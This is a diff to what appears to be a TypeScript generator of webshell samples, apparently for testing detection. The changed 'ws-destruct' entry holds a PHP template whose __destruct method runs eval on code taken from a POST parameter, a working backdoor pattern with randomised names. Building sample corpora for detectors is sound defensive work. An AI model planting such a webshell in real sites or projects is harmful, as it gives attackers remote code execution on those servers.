@@ -362,7 +362,7 @@ export const FRESH: Archetype[] = [
   })),
   F('ws-destruct', 'webshell', 2, (rng) => ({
     ext: 'php',
-    content: `${PHP_HEAD}<?php\nclass ${rng.word(5)} { public $c; function __destruct() { @eval($this->c); } }\n$o = new ${'stdClass'}();\n$x = new ${rng.word(5)}();\n$x->c = $_POST['${rng.word(3)}'];\n`,
+    content: `${PHP_HEAD}<?php\nclass ${rng.word(5)} { public $c; function __destruct() { @eval($this->c); } }\n$o = new stdClass();\n$x = new ${rng.word(5)}();\n$x->c = $_POST['${rng.word(3)}'];\n`,
   })),
   F('ws-wp-plugin-injected', 'webshell', 2, (rng) => ({
     ext: 'php',
